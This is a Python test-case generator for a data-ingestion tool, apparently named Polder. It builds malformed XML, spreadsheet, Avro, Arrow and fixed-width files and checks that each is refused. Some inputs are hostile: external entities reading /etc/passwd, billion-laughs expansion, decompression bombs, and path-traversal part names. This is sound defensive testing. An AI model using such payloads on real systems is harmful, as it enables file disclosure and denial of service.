js("long-record", "a record of 17 MB is refused without the others", gzip.compress(('[{"n":1},{"n":2,"note":"' + "x" * 17_000_000 + '"},{"n":3}]').encode(), 9, mtime=0), loads(2, {"malformed:too_long": 1}, "n\n1\n3\n", "select n from typed order by n"), file="long-record.json.gz")
js("nan-token", "JSON has no NaN and no infinity", '[{"n":1,"amount":NaN},{"n":2,"amount":-Infinity},{"n":3,"amount":1e400},{"n":4,"amount":1}]', loads(1, {"malformed:invalid_json": 2, "type:range of amount": 1}, "n\n4\n", "select n from typed order by n"))
js("utf-16", "JSON is UTF-8", '[{"n":1}]'.encode("utf-16"), fails("it is UTF-16", 3))
js("explode-not-a-list", "a row from each element of something that is no list", '[{"lines":[{"n":1},{"n":2}]},{"lines":{"n":3}},{"lines":"x"},{"lines":null},{"lines":[]},{}]', loads(2, {"malformed:not_a_list": 2}, "n\n1\n2\n", "select n from typed order by n"), source="json_explode")
js("explode-scalars", "elements that are no objects where objects are wanted", '[{"id":"a","lines":[{"n":1},2,[3],null]}]', loads(1, {"malformed:not_an_object": 3}, "n,id\n1,a\n", "select n, id from typed order by n"), source="json_explode")

# ---------------------------------------------------------------- XML


def xm(name, why, data, expect, **more):
    case("xml-" + name, why, expect, source="xml", input=put("xml", more.pop("file", name + ".xml"), data), **more)


def xrow(n, more=""):
    return f"<row><n>{n}</n>{more}</row>"


xm("external-entity", "a file of the machine as an entity", f'<?xml version="1.0"?><!DOCTYPE rows [<!ENTITY leak SYSTEM "file:///etc/passwd">]><rows>{xrow(1, "<note>&leak;</note>")}</rows>', fails("it has a document type", 3))
xm("external-dtd", "a document type that lies elsewhere", f'<!DOCTYPE rows SYSTEM "http://127.0.0.1:9/x.dtd"><rows>{xrow(1)}</rows>', fails("it has a document type", 3))
laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
xm("entities-without-end", "entities of entities of entities", f'<!DOCTYPE rows [<!ENTITY l0 "ha">{laughs}]><rows>{xrow(1, "<note>&l9;</note>")}</rows>', fails("it has a document type", 3))
xm("unknown-entity", "an entity that nobody defined", f"<rows>{xrow(1)}{xrow(2, '<note>&eacute;</note>')}</rows>", fails("it uses an entity other than the five", 3))
xm("unknown-entity-in-attribute", "the same in an attribute that no contract names is not looked at", '<rows><row id="&nbsp;"><n>1</n></row></rows>', loads(1, 0, "n\n1\n", "select n from typed order by n"))
xm("entities", "the five entities, and characters by number", f"<rows>{xrow(1, '<note>&lt;&gt;&amp;&quot;&apos;&#233;&#x1F600;</note>')}</rows>", loads(1, 0, "n,length,ok\n1,7,true\n", "select n, character_length(note) as length, note = '<>&\"''é😀' as ok from typed order by n"))
xm("zero-character", "the character that no text may hold", f"<rows>{xrow(1, '<note>&#0;</note>')}</rows>", fails("a character reference in it is wrong", 3))
xm("too-deep", "nesting without end", "<rows>" + "<a>" * 5000 + "</a>" * 5000 + "</rows>", fails("it is nested too deeply", 3))
xm("cut", "the file ends in the middle", f"<rows>{xrow(1)}{xrow(2)}", fails("it ends in the middle, after record 2", 3))
xm("cut-tag", "the file ends in a tag", f"<rows>{xrow(1)}<row><n", fails("it is not well-formed, after record 1", 3))
xm("wrong-end-tag", "an end tag of another element", f"<rows>{xrow(1)}<row><n>2</row></n></rows>", fails("it is not well-formed, after record 1", 3))
xm("two-roots", "a second document behind the first", f"<rows>{xrow(1)}</rows><rows>{xrow(2)}</rows>", fails("it has two roots, after record 1", 3))
xm("text-outside", "text behind the root", f"<rows>{xrow(1)}</rows> {{}}", fails("text stands outside its root", 3))
xm("value-twice", "which of two values is meant is not guessed", f"<rows>{xrow(1)}<row><n>2</n><n>3</n></row></rows>", loads(1, {"malformed:duplicate_key": 1}, "n\n1\n", "select n from typed order by n"))
xm("elements-in-text", "elements where a text is wanted", f"<rows>{xrow(1)}{xrow(2, '<note>a<b>c</b></note>')}</rows>", loads(1, {"type of note": 1}, "n\n1\n", "select n from typed order by n"))
xm("latin-1-undeclared", "bytes that are not UTF-8 without a declaration", f"<rows>{xrow(1, '<note>café</note>')}</rows>".encode("latin-1"), fails("it is not well-formed", 3))
xm("latin-1-declared", "with a declaration the same byte is é", f"<?xml version='1.0' encoding='ISO-8859-1'?><rows>{xrow(1, '<note>café</note>')}</rows>".encode("latin-1"), loads(1, 0, "n,note\n1,café\n", "select n, note from typed order by n"))
xm("unknown-encoding", "an encoding that nobody knows", f'<?xml version="1.0" encoding="x-none"?><rows>{xrow(1)}</rows>', fails("an encoding that is not known", 3))
xm("long-tag", "an attribute of 18 MB", gzip.compress(f'<rows>{xrow(1)}<row id="{"x" * 18_000_000}"><n>2</n></row></rows>'.encode(), 9, mtime=0), fails("a tag or text in it is longer than a record may be, after record 1", 3), file="long-tag.xml.gz")
xm("many-attributes", "ten thousand attributes in one tag", "<rows><row " + " ".join(f'a{n}="1"' for n in range(10_000)) + "><n>1</n></row></rows>", loads(1, 0, "n\n1\n", "select n from typed order by n"))
xm("attribute-twice", "which of two attributes is meant is not guessed", '<rows><row id="a" id="b"><n>1</n></row></rows>', fails("an attribute in it is wrong", 3))
xm("not-xml", "a CSV with the wrong name", HEAD + row(1), fails("text stands outside its root", 3))

# ---------------------------------------------------------------- spreadsheets


def ex(name, why, data, expect, *, source="excel", end=".xlsx", **more):
    case("excel-" + name, why, expect, source=source, input=put("excel", name + end, data), **more)


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def package(parts):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as out:
        for name, part in parts:
            out.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), part, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return sink.getvalue()


def relations(*items):
    inside = "".join(f'<Relationship Id="{i}" Type="{OFFICE}/{kind}" Target="{target}"/>' for i, kind, target in items)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'


def cell(at, value, kind="", style=""):
    kind, style = (f' t="{kind}"' if kind else ""), (f' s="{style}"' if style else "")
    inside = f"<is><t>{value}</t></is>" if "inlineStr" in kind else f"<v>{value}</v>"
    return f'<c r="{at}"{kind}{style}>{inside}</c>'


def line(n, *cells):
    return f'<row r="{n}">{"".join(cells)}</row>'


TITLE = line(1, *(cell(f"{letter}1", name, "inlineStr") for letter, name in zip("ABCDEFG", HEAD.strip().split(","))))


def sheet_xml(data, before=""):
    return f'{before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{data}</sheetData></worksheet>'


STYLES = '<styleSheet><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'


def book(data, *, strings=None, more=(), sheets=("typed",), before="", properties=""):
    parts = [("_rels/.rels", relations(("rId1", "officeDocument", "xl/workbook.xml"))),
             ("xl/workbook.xml", f'<workbook xmlns:r="{OFFICE}">{properties}<sheets>' + "".join(f'<sheet name="{name}" sheetId="{n}" r:id="rId{n}"/>' for n, name in enumerate(sheets, 1)) + "</sheets></workbook>"),
             ("xl/_rels/workbook.xml.rels", relations(*((f"rId{n}", "worksheet", f"worksheets/sheet{n}.xml") for n, _ in enumerate(sheets, 1)), ("rId90", "sharedStrings", "sharedStrings.xml"), ("rId91", "styles", "styles.xml"))),
             ("xl/styles.xml", STYLES)]
    parts += [(f"xl/worksheets/sheet{n}.xml", sheet_xml(data, before)) for n, _ in enumerate(sheets, 1)]
    if strings is not None:
        parts.append(("xl/sharedStrings.xml", strings))
    return package(parts + list(more))


def ones(*numbers):
    return "".join(line(at, cell(f"B{at}", n)) for at, n in enumerate(numbers, 2))


ex("far-cell", "a cell at the last corner of the sheet makes no rectangle", book(TITLE + ones(1) + line(1048576, cell("B1048576", 2), cell("XFD1048576", 3))), loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
ex("beyond-the-sheet", "a row that no sheet has", book(TITLE + ones(1) + line(4294967295, cell("B4294967295", 2))), fails("a cell of it lies where no sheet has any", 3))
ex("unordered-cells", "cells that go back", book(TITLE + line(3, cell("B3", 1)) + line(2, cell("B2", 2))), fails("its cells are not in order, at row 2", 3))
ex("cell-twice", "which of two values is meant is not guessed", book(TITLE + line(2, cell("B2", 1), cell("B2", 2))), fails("its cells are not in order, at row 2", 3))
ex("bomb", "a sheet that grows more than a thousandfold", book(TITLE + (" " * (15 << 20) + '<row r="2"/>') * 10), fails("it grows by more than 1000 times", 3))
ex("strings-without-number", "shared strings that promise more than any memory holds", book(TITLE + ones(1), strings='<sst uniqueCount="4000000000000"><si><t>x</t></si></sst>'), fails("more than 2097152 shared strings", 3))
ex("strings-with-numbers", "a shared string that is not there", book(TITLE + line(2, cell("A2", 7, "s"), cell("B2", 1)), strings='<sst uniqueCount="1"><si><t>x</t></si></sst>'), fails("cannot be decoded", 3))
ex("external-entity", "a file of the machine as an entity", book(TITLE + ones(1), before='<!DOCTYPE a [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'), fails("a part of it has a document type", 3))
ex("path-out", "a part whose name leads out of the package", book(TITLE + ones(1), more=[("../../../tmp/leak.csv", "x")]), fails("a name that leads out of it", 3))
ex("part-twice", "two parts of one name, but for its case", book(TITLE + ones(1), more=[("XL/worksheets/sheet1.xml", sheet_xml(TITLE + ones(2)))]), fails("two parts of its package have one name", 3))
plain_book = book(TITLE + ones(1, 2))
ex("cut", "the package ends in the middle", plain_book[:-60], fails("it is no package that can be opened", 3))
ex("not-a-spreadsheet", "a CSV with the wrong name", HEAD + row(1), fails("it is none", 3))
ex("no-workbook", "a package of something else", package([("a.txt", "x")]), fails("its package holds no workbook", 3))
damaged = bytearray(plain_book)
damaged[plain_book.index(b"xl/worksheets/sheet1.xml") + 40] ^= 0xFF
ex("damaged-part", "compressed bytes that do not open", bytes(damaged), fails("a part of its package is damaged", 3))
ex("errors", "a cell that holds an error is refused where its column is wanted", book(TITLE + ones(1) + line(3, cell("B3", 2), cell("C3", "#N/A", "e")) + line(4, cell("B4", 3), cell("C4", "#DIV/0!", "e")) + line(5, cell("B5", 4), cell("J5", "#REF!", "e"))), loads(2, {"malformed:cell_error": 2}, "n\n1\n4\n", "select n from typed order by n"))
ex("errors-declared", "with `null: [\"#N/A\"]` that error is no value", book(TITLE + line(2, cell("B2", 1), cell("C2", "#N/A", "e")) + line(3, cell("B3", 2), cell("C3", "#DIV/0!", "e"))), loads(1, {"malformed:cell_error": 1}, "n,none\n1,true\n", "select n, amount is null as none from typed order by n"), source="excel_na")
ex("nan", "a number that is none", book(TITLE + line(2, cell("B2", 1), cell("C2", "NaN")) + line(3, cell("B3", 2), cell("C3", "1e999")) + line(4, cell("B4", 3), cell("C4", "1e3"))), loads(1, {"type:not_finite of amount": 2}, "n\n3\n", "select n from typed order by n"))
ex("days-that-never-were", "the 29th of February 1900, and days outside every calendar", book(TITLE + "".join(line(at, cell(f"B{at}", at), cell(f"D{at}", day, style="1")) for at, day in enumerate([59, 60, 61, -5, 3000000], 2))),
   loads(2, {"type of day": 3}, "n,ok\n2,true\n4,true\n", "select n, day in (date '1900-02-28', date '1900-03-01') as ok from typed order by n"))
ex("two-sheets", "which of two sheets is meant is not guessed", book(TITLE + ones(1), sheets=("one", "two")), fails("set `sheet` in the source; there are: one, two", 3))
ex("no-such-sheet", "a sheet that the workbook does not have", book(TITLE + ones(1), sheets=("one", "two")), fails("there is no sheet typed", 3), source="excel_sheet")
ex("header-twice", "which of two columns is meant is not guessed", book(TITLE.replace("note", "n") + ones(1)), fails("column n stands there more than once", 3))
ex("empty-sheet", "no header and no row", book(""), fails("holds no record", 3))
ex("macros", "a workbook with macros is read, and they are not", book(TITLE + ones(1), more=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not even one")]), loads(1, 0, "n\n1\n", "select n from typed order by n"), end=".xlsm")
ex("fractions", "a fraction is not rounded to fit an integer", book(TITLE + ones(1, "1.5", "2.0")), loads(2, {"type of n": 1}, "n\n1\n2\n", "select n from typed order by n"))


def ods(table):
    names = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    title = "<table:table-row>" + "".join(f'<table:table-cell office:value-type="string" office:string-value="{name}"/>' for name in HEAD.strip().split(",")) + "</table:table-row>"
    return package([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("META-INF/manifest.xml", "<manifest/>"),
                    ("content.xml", f'<office:document-content {names}><office:body><office:spreadsheet><table:table table:name="typed">{title}{table}</table:table></office:spreadsheet></office:body></office:document-content>')])


number = '<table:table-cell office:value-type="float" office:value="{}"/>'
ex("repeated-rows", "a row that stands there a million times", ods(f'<table:table-row table:number-rows-repeated="1048570"><table:table-cell/>{number.format(1)}<table:table-cell table:number-columns-repeated="9"/>{number.format(2)}</table:table-row>'), fails("hold more than 2097152 cells", 3), end=".ods")
ex("repeated-cells", "cells that stand there thousands of times, in a thousand rows", ods("".join(f'<table:table-row><table:table-cell table:number-columns-repeated="16000"/>{number.format(n)}</table:table-row>' for n in range(1000))), fails("hold more than 2097152 cells", 3), end=".ods")
ex("repeated-nothing", "a million empty rows hold nothing", ods(f'<table:table-row><table:table-cell/>{number.format(1)}</table:table-row><table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'), loads(1, 0, "n\n1\n", "select n from typed order by n"), end=".ods")


def old_book():
    out = xlwt.Workbook()
    page = out.add_sheet("typed")
    for column, name in enumerate(HEAD.strip().split(",")):
        page.write(0, column, name)
    page.write(1, 1, 1)
    sink = io.BytesIO()
    out.save(sink)
    return sink.getvalue()


old = old_book()
directory = struct.unpack_from("<I", old, 48)[0]
table_at = (struct.unpack_from("<I", old, 76)[0] + 1) * 512
ex("xls-plain", "a workbook of the old format, as the control of the next two", old, loads(1, 0, "n\n1\n", "select n from typed order by n"), end=".xls")
ex("xls-circle", "the sectors of the directory lead back to themselves", old[:table_at + 4 * directory] + struct.pack("<I", directory) + old[table_at + 4 * directory + 4:], fails("a chain of sectors in it never ends", 3), end=".xls")
ex("xls-cut", "the file ends in the middle", old[:3000], fails("it holds no workbook", 3), end=".xls")
CASES[-1]["expect"] = fails("save it as .xlsx", 3)
xlsb_parts = [("_rels/.rels", relations(("rId1", "officeDocument", "xl/workbook.bin"))), ("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")]
ex("xlsb-long-record", "a record that promises a quarter of a gigabyte", package(xlsb_parts + [("xl/sharedStrings.bin", b"\x9f\x01\xff\xff\xff\x7f")]), fails("a record of it says that it is longer than 1 MiB", 3), end=".xlsb")

# ---------------------------------------------------------------- Avro

SCHEMA = {"type": "record", "name": "typed", "fields": [
    {"name": "id", "type": ["null", "string"], "default": None}, {"name": "n", "type": "long"}, {"name": "amount", "type": ["null", "double"], "default": None},
    {"name": "day", "type": ["null", {"type": "int", "logicalType": "date"}], "default": None}, {"name": "seen_at", "type": ["null", {"type": "long", "logicalType": "timestamp-micros"}], "default": None},
    {"name": "flag", "type": ["null", "boolean"], "default": None}, {"name": "note", "type": ["null", "string"], "default": None}]}
SYNC = b"sixteen markers!"


def long(value):
    value, out = (value << 1) ^ (value >> 63), b""
    value &= (1 << 64) - 1
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def head(schema, codec="null"):
    pairs = {"avro.schema": schema if isinstance(schema, bytes) else json.dumps(schema).encode(), "avro.codec": codec.encode()}
    return b"Obj\x01" + long(len(pairs)) + b"".join(long(len(k)) + k.encode() + long(len(v)) + v for k, v in pairs.items()) + long(0) + SYNC


def block(count, data, size=None, sync=SYNC):
    return long(count) + long(len(data) if size is None else size) + data + sync


def records(*items):
    out = io.BytesIO()
    for item in items:
        fastavro.schemaless_writer(out, fastavro.parse_schema(dict(SCHEMA)), item)
    return out.getvalue()


def av(name, why, data, expect, **more):
    case("avro-" + name, why, expect, source="avro", input=put("avro", name + ".avro", data), **more)


two = records({"n": 1}, {"n": 2})
av("plain", "two blocks, as the control of what follows", head(SCHEMA) + block(2, two) + block(1, records({"n": 3})), loads(3, 0, "n\n1\n2\n3\n", "select n from typed order by n"))
av("sync-marker", "a sync marker that is another one", head(SCHEMA) + block(2, two) + block(1, records({"n": 3}), sync=b"sixteen markers?"), fails("its sync marker is damaged, in block 2", 3))
av("cut", "the file ends in a block", (head(SCHEMA) + block(2, two))[:-20], fails("the file ends in the middle, in block 1", 3))
av("cut-in-header", "the file ends in its header", head(SCHEMA)[:40], fails("it ends in its header", 3))
av("counts-too-many", "a block that says it holds more records than it does", head(SCHEMA) + block(3, two), fails("holds fewer records than it says", 3))
av("counts-too-few", "a block that says it holds fewer records than it does", head(SCHEMA) + block(1, two), fails("holds more records than it says", 3))
av("long-block", "a block that promises a terabyte", head(SCHEMA) + block(2, two, size=1 << 40), fails("longer than 64 MiB", 3))
av("negative-count", "a negative number of records", head(SCHEMA) + block(-2, two), fails("a negative number of records", 3))
deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
bomb = deflated.compress(bytes(200 << 20)) + deflated.flush()
av("bomb", "a block that grows without end", head(SCHEMA, "deflate") + block(2, bomb), fails("it grows to more than 64 MiB", 3))
av("snappy-promise", "a block of Snappy that promises four gigabytes", head(SCHEMA, "snappy") + block(2, b"\xff\xff\xff\xff\x0f\x00\x00\x00\x00\x00"), fails("it grows to more than 64 MiB", 3))
av("unknown-codec", "a codec that is not read", head(SCHEMA, "lzma") + block(2, two), fails("its codec is not read", 3))
av("not-avro", "a CSV with the wrong name", HEAD + row(1), fails("it is no object container file", 3))
av("schema-not-json", "a schema that is none", head(b'{"type":"record"') + block(2, two), fails("its schema is not JSON", 3))
av("schema-of-itself", "a record that holds itself", head({"type": "record", "name": "r", "fields": [{"name": "n", "type": "long"}, {"name": "next", "type": ["null", "r"]}]}) + block(1, b"\x02\x00"), fails("a type of its schema holds itself", 3))
doubling = [{"name": "n", "type": "long"}, {"name": "f0", "type": {"type": "record", "name": "t0", "fields": [{"name": "i", "type": "int"}]}}]
doubling += [{"name": f"f{n}", "type": {"type": "record", "name": f"t{n}", "fields": [{"name": k, "type": f"t{n - 1}"} for k in "ab"]}} for n in range(1, 60)]
av("schema-without-end", "a schema of types of types of types", head({"type": "record", "name": "r", "fields": doubling}) + block(1, b"\x02"), fails("grows beyond 100000 types", 3))
lists = {"type": "record", "name": "typed", "fields": SCHEMA["fields"] + [{"name": "nulls", "type": {"type": "array", "items": "null"}}]}
av("list-without-end", "a list that says it holds four quintillion nulls, in a column that no contract names", head(lists) + block(1, records({"n": 1}) + long(1 << 62) + long(0)), fails("more items than it has bytes for", 3))
av("nan", "NaN and infinity", head(SCHEMA) + block(3, records({"n": 1, "amount": 1.5}, {"n": 2, "amount": float("nan")}, {"n": 3, "amount": float("inf")})), loads(1, {"type:not_finite of amount": 2}, "n\n1\n", "select n from typed order by n"))
av("record-column", "a record where the contract wants a text", head({"type": "record", "name": "typed", "fields": SCHEMA["fields"][:6] + [{"name": "note", "type": {"type": "record", "name": "x", "fields": [{"name": "a", "type": "int"}]}}]}) + block(0, b""), fails("it is a record, which is not read", 3))
av("column-twice", "two columns of one name", head({"type": "record", "name": "typed", "fields": SCHEMA["fields"] + [{"name": "n", "type": "long"}]}) + block(0, b""), fails("column n stands there more than once", 3))
av("invalid-utf-8", "a text that is none", head(SCHEMA) + block(1, records({"n": 1, "note": "cafe"}).replace(b"cafe", b"caf\xe9")), fails("a record of it cannot be decoded", 3))

# ---------------------------------------------------------------- Arrow IPC


def ar(name, why, data, expect, **more):
    case("arrow-" + name, why, expect, source="arrow", input=put("arrow", name + ".arrow", data), **more)


def arrow(data, is_file=True, **options):
    sink = pa.BufferOutputStream()
    with (ipc.new_file if is_file else ipc.new_stream)(sink, data.schema, options=ipc.IpcWriteOptions(**options)) as writer:
        writer.write_table(data)
    return sink.getvalue().to_pybytes()


def swap(data, old, new, count=None, start=0):
    assert len(old) == len(new) and data.count(old, start) >= 1, (data.count(old, start), old)
    return data[:start] + data[start:].replace(old, new, -1 if count is None else count)


small = table([{"n": n, "id": "a", "note": f"note {n}"} for n in range(1, 101)])
whole, flow = arrow(small), arrow(small, False)
ar("plain", "a file, as the control of what follows", whole, loads(100, 0, "rows\n100\n", "select count(*) as rows from typed"))
ar("cut", "the file ends before its footer", whole[:-40], fails("its footer is missing or damaged", 3))
ar("footer-too-long", "the footer's length points before the file's start", whole[:-10] + struct.pack("<i", 2**31 - 1) + b"ARROW1", fails("its footer is missing or damaged", 3))
ar("footer-negative", "a footer of negative length", whole[:-10] + struct.pack("<i", -8) + b"ARROW1", fails("its footer is missing or damaged", 3))
ar("footer-garbled", "a footer of other bytes", whole[:-200] + b"\xff" * 190 + whole[-10:], fails("its footer is missing or damaged", 3))
batch_at = flow.index(b"\xff\xff\xff\xff", 8)
ar("stream-cut", "a stream ends in a message", flow[:batch_at + 400], fails("it ends in the middle of a message", 3))
ar("long-description", "a message whose description promises two gigabytes", flow[:batch_at + 4] + struct.pack("<i", 2**31 - 1) + flow[batch_at + 8:], fails("a description in it says that it is 2147483647 bytes long", 3))
ar("negative-description", "a message of negative length", flow[:batch_at + 4] + struct.pack("<i", -16) + flow[batch_at + 8:], fails("a negative length", 3))
body = struct.unpack_from("<i", flow, batch_at + 4)[0]
description = flow[batch_at + 8:batch_at + 8 + body]
length = len(flow) - 8 - (batch_at + 8 + body)
ar("long-body", "a message whose body promises an exabyte", swap(flow, struct.pack("<q", length), struct.pack("<q", 1 << 60), 1, batch_at), fails("bytes long, more than the 536870912 that are read", 3))
ar("many-rows", "a batch that promises more rows than its bytes can hold", flow[:batch_at + 8] + description.replace(struct.pack("<q", 100), struct.pack("<q", 1 << 50), 1) + flow[batch_at + 8 + body:], fails("more than its bytes can hold", 3))
ar("fewer-rows", "a batch that promises fewer rows than its columns have", flow[:batch_at + 8] + description.replace(struct.pack("<q", 100), struct.pack("<q", 99), 1) + flow[batch_at + 8 + body:], fails("cannot be decoded", 3))
ar("buffer-behind-the-end", "a buffer that ends behind its message", flow[:batch_at + 8] + description.replace(struct.pack("<q", 800), struct.pack("<q", 1 << 40), 1) + flow[batch_at + 8 + body:], fails("a buffer of it ends behind its message", 3))
packed = arrow(table([{"n": n, "note": "x" * 30} for n in range(1, 101)]), False, compression="zstd")
ar("compressed-promise", "a compressed buffer that promises an exabyte", swap(packed, struct.pack("<q", 800), struct.pack("<q", 1 << 60), 1, packed.index(b"\xff\xff\xff\xff", 8)), fails("it grows by more than 1000 times", 3))
texts = table([{"n": 1, "note": "cafe"}])
ar("invalid-utf-8", "a text column that holds other bytes", arrow(texts).replace(b"cafe", b"caf\xe9"), fails("cannot be decoded", 3))
offsets = struct.pack("<101i", *range(0, 707, 7))
ar("wild-offsets", "offsets of texts that lead out of their bytes", swap(flow, struct.pack("<3i", 0, 1, 2), struct.pack("<3i", 0, 1 << 30, 2), 1, batch_at), fails("cannot be decoded", 3))
coded = pa.table({"n": pa.array([1, 2], pa.int64()), **{k: pa.nulls(2, v) for k, v in FULL.items() if k not in ("n", "note")}, "note": pa.DictionaryArray.from_arrays(pa.array([0x55, 0x55], pa.int32()), pa.array(["x"] * 0x56))})
ar("wild-dictionary", "a value by a number that its dictionary does not have", swap(arrow(coded, False), struct.pack("<2i", 0x55, 0x55), struct.pack("<2i", 0x55, 0x1055), 1), fails("cannot be decoded", 3))
footer_at = len(whole) - 10 - struct.unpack("<i", whole[-10:-6])[0]
place = struct.pack("<q", whole.index(b"\xff\xff\xff\xff", 16))
ar("batches-elsewhere", "a footer whose batch lies behind the file", swap(whole, place, struct.pack("<q", 1 << 40), 1, footer_at), fails("overlap or lie outside the file", 3))
ar("not-arrow", "a CSV with the wrong name", HEAD + row(1), fails("it is neither an Arrow IPC file nor a stream", 3))
ar("feather-1", "the first version of Feather", b"FEA1" + bytes(40) + b"FEA1", fails("the first version of Feather", 3))
ar("column-twice", "two columns of one name", arrow(pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["n", "n"])), fails("column n stands there more than once", 3))
ar("nested-column", "a struct where the contract wants a text", arrow(table([{"n": 1, "note": {"a": 1}}], {**FULL, "note": pa.struct([("a", pa.int64())])})), fails("it is a struct, which is not read", 3))
ar("nested-unwanted", "nested columns that no contract names are not decoded", arrow(table([{"n": 1, "other": [{"a": [1]}]}], {**FULL, "other": pa.list_(pa.struct([("a", pa.list_(pa.int64()))]))})), loads(1, 0, "n\n1\n", "select n from typed order by n"))
ar("nan", "NaN and infinity", arrow(table([{"n": 1, "amount": 1.5}, {"n": 2, "amount": float("nan")}, {"n": 3, "amount": float("-inf")}])), loads(1, {"type:not_finite of amount": 2}, "n\n1\n", "select n from typed order by n"))

# ---------------------------------------------------------------- fixed width

LAYOUT = "unit: bytes\n{}columns:\n  - {{name: id, start: 1, length: 4}}\n  - {{name: \"n\", start: 5, length: 4}}\n  - {{name: amount, start: 9, length: 6}}\n  - {{name: day, start: 15, length: 10}}\n  - {{name: seen_at, start: 25, length: 20}}\n  - {{name: flag, start: 45, length: 5}}\n  - {{name: note, start: 50, end: 57}}\n"


def frow(n, note="", id="a"):
    return f"{id:4}{n:>4}{'':6}{'':10}{'':20}{'':5}{note:8}"


def fx(name, why, data, expect, layout=LAYOUT.format(""), **more):
    files = {"layout.yaml": put("fixed", name + ".layout.yaml", layout)} if layout else {}
    case("fixed-" + name, why, expect, source="fixed", input=put("fixed", name + ".txt", data), files=files, **more)


fx("short-line", "a line that ends before its last column", f"{frow(1)}\n{frow(2).rstrip()}\n{frow(3, 'x')}\r\n", loads(2, {"malformed:ragged": 1}, "n,note\n1,\n3,x\n", "select n, note from typed order by n"))
fx("long-line", "what stands behind the last column is in no column", f"{frow(1)}secret\n{frow(2)}\n", loads(2, 0, "n,note\n1,\n2,\n", "select n, note from typed order by n"))
fx("cut-record", "a file of records of one length ends in the middle of one", (frow(1) + frow(2))[:-5], fails("its last record has 52 bytes instead of 57", 3), layout=LAYOUT.format("record_length: 57\n"))
fx("columns-overlap", "two columns share a place", frow(1) + "\n", fails("layout.yaml, line 4: columns id and n overlap", 2), layout=LAYOUT.format("").replace("start: 5, length: 4", "start: 4, length: 5"))
fx("layout-unknown-key", "a misspelt key is never ignored", frow(1) + "\n", fails("unknown key `lenght`", 2), layout=LAYOUT.format("").replace("length: 6", "lenght: 6"))
fx("layout-missing", "a layout that is not there", frow(1) + "\n", fails("layout.yaml", 4), layout=None)
fx("half-a-character", "positions in bytes cut a character in two", frow(1, "x").encode() + b"\n" + "a      2".encode() + bytes(b" " * 41) + "1234567é".encode() + b"\n", loads(1, {"not_utf8 of note": 1}, "n,note\n1,x\n", "select n, note from typed order by n"))

# ---------------------------------------------------------------- project files


def proj(name, why, files, expect, *, command=("run", "--output", "json"), approve=("typed",), data=True):
    mapped = {}
    for target, text in files.items():
        mapped[target] = text if isinstance(text, dict) else put(f"project/{name}", target.replace("/", "--"), text)
    entry = {"name": "project-" + name, "why": why, "source": "csv", "contract": "typed", "input": "csv/leading-zeros.csv", "files": mapped,
             "approve": list(approve), "command": list(command), "expect": expect}
    CASES.append(entry)


def contract(**changes):
    text = (HERE / "common/contracts/typed.odcs.yaml").read_text()
    for old, new in changes.get("replace", {}).items():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text + changes.get("append", "")


CHECK = ("contract", "check")
SOURCE = ("source", "check", "files")
proj("source-unknown-key", "a misspelt key is never ignored", {"sources/files.yaml": "type: csv\npath: data\ndatasets:\n  typed: {fil: '*'}\n"}, fails("line 4: unknown key `fil`", 2), command=SOURCE, approve=())
proj("source-unknown-type", "a type that no source has", {"sources/files.yaml": "type: csvv\npath: data\ndatasets:\n  typed: {file: '*'}\n"}, fails("unknown word `csvv`", 2), command=SOURCE, approve=())
proj("source-climbs-out", "a file outside the source's path", {"sources/files.yaml": "type: csv\npath: data\ndatasets:\n  typed: {file: ../../../etc/passwd}\n"}, fails("line 4: dataset typed: `file` is empty, absolute or climbs out", 2), command=SOURCE, approve=())
proj("source-key-twice", "which of two keys is meant is not guessed", {"sources/files.yaml": "type: csv\npath: data\npath: other\ndatasets:\n  typed: {file: '*'}\n"}, fails("line 3: key `path` stands there twice", 2), command=SOURCE, approve=())
proj("source-null-in-parquet", "a key without meaning for the type", {"sources/files.yaml": "type: parquet\npath: data\ndatasets:\n  typed: {file: '*', \"null\": [NA]}\n"}, fails("`null` has no meaning for type parquet", 2), command=SOURCE, approve=())
proj("source-missing-directory", "a directory that is not there may come back", {"sources/files.yaml": "type: csv\npath: nowhere\ndatasets:\n  typed: {file: '*'}\n"}, fails("there is no directory", 4))
proj("contract-unknown-key", "a misspelt `required` would let nulls in", {"contracts/typed.odcs.yaml": contract(replace={"required: true": "requird: true"})}, fails("line 16: `requird`", 2), command=CHECK, approve=())
proj("contract-unknown-setting", "a setting of Polder's that does not exist", {"contracts/typed.odcs.yaml": contract(replace={"polder.rejectLimit": "polder.rejektLimit"})}, fails("line 10: `polder.rejektLimit`", 2), command=CHECK, approve=())
proj("contract-no-schema", "a contract without columns authorises nothing", {"contracts/typed.odcs.yaml": contract().split("schema:")[0]}, fails("`schema` is missing", 2), command=CHECK, approve=())
proj("contract-unknown-type", "a logical type that ODCS does not have", {"contracts/typed.odcs.yaml": contract(replace={"logicalType: boolean": "logicalType: bool"})}, fails("line 20: column flag: `bool`", 2), command=CHECK, approve=())
proj("contract-bad-pattern", "a pattern that does not compile", {"contracts/typed.odcs.yaml": contract(replace={"maxLength: 40": 'pattern: "("'})}, fails("the pattern of column note", 2), command=CHECK, approve=())
